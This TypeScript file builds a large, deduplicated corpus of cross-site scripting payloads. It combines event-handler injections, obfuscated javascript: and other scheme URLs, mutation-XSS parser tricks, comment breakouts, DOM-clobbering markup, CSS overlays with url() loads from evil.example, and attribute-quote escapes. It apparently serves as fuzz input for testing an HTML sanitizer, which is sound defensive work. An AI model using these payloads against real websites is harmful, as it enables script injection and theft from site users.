// Hostile HTML by the thousand: every element with every handler, every spelling of every scheme in every attribute that
// takes an address, every wrapper that makes a parser see something else the second time. Made, not listed, so that a
// kind that is missing can be added as one word.

const ELEMENTS =
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content custom-x data datalist dd del details dfn dialog dir div dl dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset geolocation h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr x xmp xss'.split(
    ' ',
  )
const HANDLERS =
  'onabort onactivate onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforeactivate onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlocation onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onmozfullscreenchange onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpromptaction onpromptdismiss onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onslotchange onshow onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvalidationstatuschange onvolumechange onwaiting onwebkitanimationend onwebkitmouseforcechanged onwebkitplaybacktargetavailabilitychanged onwebkittransitionend onwebkitwillrevealbottom onwheel onzoom'.split(
    ' ',
  )

/** Every handler on some element, every element with some handlers. */
function* handlers(): Generator<string> {
  for (const [at, handler] of HANDLERS.entries()) {
    const tag = ELEMENTS[(at * 7) % ELEMENTS.length]!
    yield `<${tag} ${handler}="alert(1)" src=x href=x data=x autofocus tabindex=1 open controls autoplay style="animation:x 1s;transition:all 1s">x</${tag}>`
    yield `<svg ${handler}=alert(1)><animate ${handler}=alert(1) attributeName=x dur=1s><${tag} ${handler}=alert(1)>`
  }
  for (const tag of ELEMENTS) {
    yield `<${tag} onclick=alert(1) onfocus=alert(1) onload=alert(1) onerror=alert(1) src=x autofocus tabindex=1>x</${tag}>`
    yield `<${tag}/onpointerover='alert(1)'/style=position:fixed;inset:0;z-index:9>x`
    yield `<p><${tag.toUpperCase()}\fONLOAD\n=\t"alert(1)" ID=x NAME=cookie CLASS=overlay>x</${tag}\n>`
  }
}

const SPELLINGS: readonly ((scheme: string) => string)[] = [
  scheme => `${scheme}:alert(1)`,
  scheme => `${scheme.toUpperCase()}:alert(1)`,
  scheme => ` \u0001\u001f${scheme}:alert(1)`,
  scheme => `${scheme.slice(0, 3)}&#9;${scheme.slice(3)}:alert(1)`,
  scheme => `${scheme.slice(0, 3)}&#x0A;${scheme.slice(3)}&colon;alert(1)`,
  scheme => `${scheme.slice(0, 3)}\r\n${scheme.slice(3)}&#58;alert(1)`,
  scheme => `${[...scheme].map(c => `&#${c.charCodeAt(0)}`).join('')}&#58alert(1)`,
  scheme => `${[...scheme].map(c => `&#x${c.charCodeAt(0).toString(16)};`).join('')}:alert(1)`,
  scheme => `${scheme}\u0000:alert(1)`,
  scheme => `\u00a0${scheme}:alert(1)`,
  scheme => `%6a${scheme.slice(1)}:alert(1)`,
  scheme => `${scheme}&#0000000058;//%0aalert(1)`,
  scheme => `\u200b${scheme}:alert(1)`,
  scheme => `url:${scheme}:alert(1)`,
]
const SCHEMES = [
  'javascript',
  'vbscript',
  'livescript',
  'data',
  'blob',
  'filesystem',
  'file',
  'about',
  'intent',
  'view-source',
  'jar',
  'mhtml',
  'feed',
  'chrome',
  'x-javascript',
  'ws',
  'ftp',
]
const DOCUMENTS = [
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'data:text/xml,<?xml-stylesheet href="javascript:alert(1)"?>',
  'data:,alert(1)',
  'DATA:image/gif;base64,R0lGODlhAQABAAAAACw=',
  '//evil.example\\@ok.example/',
  'https:evil.example',
  'https://user:pass@evil.example/',
  '\\\\evil.example\\x',
]
const TAKERS: readonly ((address: string) => string)[] = [
  a => `<a href="${a}">x</a>`,
  a => `<a xlink:href="${a}">x</a>`,
  a => `<area href="${a}">`,
  a => `<img src="${a}">`,
  a => `<img srcset="${a} 1x, ${a} 2x">`,
  a => `<img data-src="${a}" data-original="${a}" data-srcset="${a} 9x" file="${a}" src="">`,
  a => `<picture><source srcset="${a} 1x"><img src="${a}"></picture>`,
  a => `<video src="${a}" poster="${a}"><source src="${a}"><track src="${a}"></video>`,
  a => `<audio src="${a}"></audio>`,
  a => `<iframe src="${a}" srcdoc="<script>alert(1)</script>"></iframe>`,
  a => `<embed src="${a}"><object data="${a}" classid="${a}" codebase="${a}"></object>`,
  a => `<form action="${a}"><button formaction="${a}">x</button><input type=image src="${a}"></form>`,
  a => `<blockquote cite="${a}">x</blockquote><q cite="${a}">y</q><del cite="${a}">z</del>`,
  a => `<table background="${a}"><tr background="${a}"><td background="${a}">x</table>`,
  a => `<base href="${a}"><a href="x">x</a>`,
  a => `<link rel="stylesheet" href="${a}"><meta http-equiv=refresh content="0;url=${a}">`,
  a =>
    `<svg><a href="${a}"><text>x</text></a><use href="${a}#x"/><image href="${a}"/><set attributeName=href to="${a}"/></svg>`,
  a =>
    `<math href="${a}"><mi xlink:href="${a}">x</mi><annotation-xml encoding="text/html" definitionURL="${a}"></annotation-xml></math>`,
  a => `<a href="https://ok.example/" ping="${a}" target="_blank" download attributionsrc="${a}">x</a>`,
  a => `<body background="${a}" style="background:url(${a})">x`,
  a =>
    `<amp-img src="${a}"></amp-img><amp-iframe src="${a}"></amp-iframe><amp-video src="${a}" poster="${a}"></amp-video>`,
  a => `<image src="${a}" longdesc="${a}" lowsrc="${a}" dynsrc="${a}" usemap="${a}">`,
]

function* addresses(): Generator<string> {
  for (const taker of TAKERS) {
    for (const spell of SPELLINGS) yield taker(spell('javascript'))
    for (const scheme of SCHEMES) yield taker(`${scheme}:alert(1)`)
    for (const document of DOCUMENTS) yield taker(document.replaceAll('"', '&quot;'))
  }
}

/** What runs, if it ever is markup. */
const LOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
]

/** Elements whose inside is text to one reader and markup to another. */
const RAW = [
  'style',
  'script',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'title',
  'textarea',
  'template',
  'svg',
  'math',
  'select',
  'option',
  'listing',
]
const FOREIGN = [
  'svg',
  'math',
  'svg><desc',
  'svg><title',
  'svg><foreignObject',
  'math><mtext',
  'math><mi',
  'math><ms',
  'math><annotation-xml encoding=text/html',
  'math><annotation-xml',
  'math><mtext><mglyph',
  'math><mtext><malignmark',
  'svg><style',
  'svg><p',
  'math><mo><svg',
  'svg><foreignobject><math',
]
const FOSTER = [
  'table',
  'table><tr',
  'table><tbody',
  'table><colgroup',
  'table><caption',
  'form><table',
  'select',
  'table><select',
  'p><table',
  'a><table',
  'b><table',
  'dl><dt',
  'ruby><rt',
  'details><summary',
  'button',
  'object',
  'marquee',
  'nobr',
  'h1',
  'ul><li',
  'frameset',
  'head',
  'colgroup',
  'template',
  'dialog open',
  'noscript',
]

function* mutations(): Generator<string> {
  for (const load of LOADS)
    for (const raw of RAW) {
      yield `<${raw}>${load}</${raw}>`
      yield `<${raw}><p title="</${raw}>${load}">x`
      yield `<${raw}><!--</${raw}>${load}-->`
      yield `<svg><${raw}>${load}</${raw}></svg>`
      yield `<math><mtext><table><mglyph><${raw}><!--</${raw}><img title="--&gt;${load.replaceAll('<', '&lt;')}">`
      yield `<p title="<${raw}>">${load}</${raw}>`
      yield `<${raw}/${load}</${raw}\t>${load}`
    }
  for (const foreign of FOREIGN)
    for (const raw of RAW) {
      const load = LOADS[(foreign.length + raw.length) % LOADS.length]!
      yield `<${foreign}><${raw}><a title="</${raw}>${load}">`
      yield `<form><${foreign}></form><form><mglyph><${raw}></math>${load}`
      yield `<${foreign}><table><${raw}><!--</${raw}>${load}`
    }
  for (const foster of FOSTER)
    for (const load of LOADS) {
      yield `<${foster}>${load}<p>x</div></div>`
      yield `<${foster}><a href="javascript:alert(1)">${load}<b><${foster}>`
      yield `<div><${foster}></div></div></div>${load}`
      yield `<${foster}><svg><style>${load}</style></svg><math><mi>${load}`
    }
}

function* comments(): Generator<string> {
  for (const load of LOADS)
    for (const [open, close] of [
      ['<!--', '-->'],
      ['<!-->', ''],
      ['<!--->', ''],
      ['<!-- -- !>', ''],
      ['<!-- --!>', ''],
      ['<!', '>'],
      ['</ ', '>'],
      ['<?', '?>'],
      ['<%', '%>'],
      ['<![CDATA[', ']]>'],
      ['<![if IE]>', '<![endif]>'],
      ['<!--[if gte IE 4]>', '<![endif]-->'],
      ['<!DOCTYPE x [<!ENTITY y "', '">]>&y;'],
      ['<svg><![CDATA[', ']]></svg>'],
      ['<math><!--', '--></math>'],
      ['\u0000<', ''],
      ['<\u0000', ''],
      ['<x\u0000', '>'],
      ['\ufeff', ''],
      ['&lt;', '&gt;'],
      ['&amp;lt;', '&amp;gt;'],
      ['＜', '＞'],
      ['<<', '>>'],
      ['<a b="', '">'],
      ["<a b='", "'>"],
      ['<a b=`', '`>'],
    ] as const)
      yield `${open}${load}${close}<p>x</p>`
}

const CLOBBERED =
  'attributes body childNodes children cookie currentScript defaultView doctype documentElement domain firstChild forms getElementById getElementsByTagName head images implementation innerHTML lastChild links location nodeName nodeType ownerDocument parentNode querySelector readyState referrer removeChild scripts self setAttribute styleSheets submit tagName textContent title top window __proto__ constructor hasOwnProperty toString before after q main search'.split(
    ' ',
  )

function* clobbering(): Generator<string> {
  for (const name of CLOBBERED) {
    yield `<a id=${name} href="#${name}">x</a><a id=${name} name=${name} href="https://evil.example/">y</a>`
    yield `<form id=${name} name=${name}><input id=${name} name=${name}></form><img name=${name} id=${name} src="https://ok.example/a.png">`
    yield `<iframe name=${name} srcdoc="<a id=x>"></iframe><object id=${name}></object><embed name=${name}>`
    yield `<sup id="fn-${name}"><a href="#${name}">1</a></sup><ol><li id="${name}">note</li></ol>`
  }
}

const STYLES = [
  'position:fixed;inset:0;z-index:99999',
  'position:absolute;top:0;left:0;width:100vw;height:100vh',
  'background:url(//evil.example/x)',
  'background-image:image-set("//evil.example/x" 1x)',
  'margin-top:-9999px',
  'width:expression(alert(1))',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'behavior:url(x.htc)',
  'font-family:x;src:url(//evil.example/f)',
  'content:url(//evil.example/x)',
  'cursor:url(//evil.example/x),auto',
  'display:contents',
  'anchor-name:--x',
  'view-transition-name:x',
]
const COVERS = [
  'class="fixed inset-0 overlay modal"',
  'popover=manual',
  'hidden=until-found',
  'contenteditable',
  'draggable=true',
  'inert',
  'slot=x',
  'is=x-evil',
  'part=x',
  'itemprop=x itemscope',
  'aria-hidden=true role=dialog aria-modal=true',
  'accesskey=x',
  'autofocus tabindex=1',
  'nonce=x',
  'usemap=#x',
  'bgcolor=red text=red link=red',
  'command=show-modal commandfor=before',
  'popovertarget=x',
  'enterkeyhint=go virtualkeyboardpolicy=manual',
  'elementtiming=x fetchpriority=high',
  'crossorigin referrerpolicy=unsafe-url',
  'shadowrootmode=open',
  'data-x=y onx=alert(1)',
  'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"',
]

function* covers(): Generator<string> {
  for (const style of STYLES) {
    yield `<div style="${style.replaceAll('"', '&quot;')}">x</div>`
    yield `<style>*{${style}}</style><p>x</p>`
    yield `<svg><style>*{${style}}</style></svg><link rel=stylesheet href="data:text/css,*{${encodeURIComponent(style)}}">`
  }
  for (const cover of COVERS)
    for (const tag of [
      'div',
      'a href="https://ok.example/"',
      'dialog open',
      'img src="https://ok.example/a.png"',
      'details open',
      'table',
      'template',
      'button',
    ])
      yield `<${tag} ${cover}>x</${tag.split(' ')[0]}>`
}

function* boundaries(): Generator<string> {
  for (const tag of ELEMENTS) {
    yield `<${tag}></div></article></body></html><p onclick=alert(1)>x`
    yield `</${tag}></div></${tag}><img src=x onerror=alert(1)>`
    yield `<p><${tag}><div></p></div></${tag}></p></div>x`
    yield `<table><tr><td><${tag}></table></div>x</${tag}>`
    yield `<svg><${tag}></svg></div>x<math><${tag}></math></div>`
  }
  for (const quote of ['"', "'", '`', ''])
    for (const name of [
      'title',
      'alt',
      'lang',
      'datetime',
      'width',
      'start',
      'colspan',
      'cite',
      'class',
      'id',
      'dir',
      'type',
    ]) {
      const inside = quote === '"' ? "'" : '"'
      for (const tag of ['img src=https://ok.example/a.png', 'p', 'td', 'time', 'ol', 'code', 'a href=#x'])
        yield `<${tag} ${name}=${quote}${inside}onmouseover=alert(1) x=${inside}><img src=x onerror=alert(1)>${quote}>x`
    }
}

/** All of them, some thousands; the same on each call. */
export function payloads(): string[] {
  return [
    ...new Set([
      ...handlers(),
      ...addresses(),
      ...mutations(),
      ...comments(),
      ...clobbering(),
      ...covers(),
      ...boundaries(),
    ]),
  ]
}
